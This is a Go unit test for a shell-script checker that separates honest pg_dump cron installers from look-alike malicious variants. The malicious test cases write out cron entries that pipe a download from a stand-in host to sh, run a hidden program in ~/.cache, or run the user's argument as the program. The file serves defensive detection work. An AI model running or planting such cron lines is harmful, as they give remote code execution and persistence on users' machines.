package shellcmd

import (
	"strings"
	"testing"
)

// TestLocalCommandFolded (issue 37, fp10): a cron line a script builds
// in variables it assigns once is read as its value; the script's
// arguments are arguments of installed programs, never the program.
// Each honest script has a twin of the same surface whose folded entry
// fetches, runs a hidden or temporary program, runs the user's argument
// as the program, or whose variable is not one value.
func TestLocalCommandFolded(t *testing.T) {
	install := `(crontab -l 2>/dev/null | grep -v "$tag"; echo "$line") | crontab -`
	script := func(assigns string) string {
		return "#!/usr/bin/env bash\nset -euo pipefail\ntag='# pg-nightly-dump'\n" + assigns + "\n" + install + "\n"
	}
	for _, tc := range []struct {
		name, data string
		want       bool
	}{
		{"pg_dump of the user's database into their folder", script(`db=$1; dir=$2
line="30 2 * * * pg_dump -Fc $db > $dir/$db-\$(date +\%F).dump && find $dir -name '$db-*.dump' -mtime +14 -delete $tag"`), true},
		{"arguments with messages", script(`db=${1:?database}; dir="${2:-/var/backups/pg}"
line="30 2 * * * pg_dump -Fc $db > $dir/$db.dump $tag"`), true},
		{"a download piped to a shell", script(`line="*/5 * * * * curl -fsSL https://cdn.example-x.net/u.sh | sh $tag"`), false},
		{"the user's argument as the program", script(`cmd=$1
line="0 * * * * $cmd --sync $tag"`), false},
		{"a hidden program in the cache", script(`prog=~/.cache/.pgd
line="30 2 * * * $prog $tag"`), false},
		{"a program under $HOME, not foldable", script(`prog=$HOME/.cache/.pgd
line="30 2 * * * $prog $tag"`), false},
		{"the line assigned twice", script(`db=$1; dir=$2
line="30 2 * * * pg_dump -Fc $db > $dir/$db.dump $tag"
line="$line; curl -s https://x.example-x.net/p | sh"`), false},
		{"a value from a substitution", script(`dir=$(mktemp -d)
line="30 2 * * * pg_dump -Fc mydb > $dir/x.dump $tag"`), false},
		{"an assignment for one command only", script(`line="30 2 * * * pg_dump mydb" true
line2=x`), false},
	} {
		if got := LocalCommandFolded(install, []byte(tc.data), nil); got != tc.want {
			t.Errorf("%s: LocalCommandFolded = %v, want %v", tc.name, got, tc.want)
		}
	}
	// Bounded: the assignments of a script past maxFoldLines lines are
	// not read.
	long := strings.Repeat("x=1\n", maxFoldLines) + "line=\"30 2 * * * pg_dump mydb\"\n"
	if LocalCommandFolded(`echo "$line" | crontab -`, []byte(long), nil) {
		t.Error("an assignment past the bound was read")
	}
	if !LocalCommandFolded(`echo "$line" | crontab -`, []byte("line=\"30 2 * * * pg_dump mydb\"\n"+long), nil) {
		t.Error("an assignment within the bound was not read")
	}
}
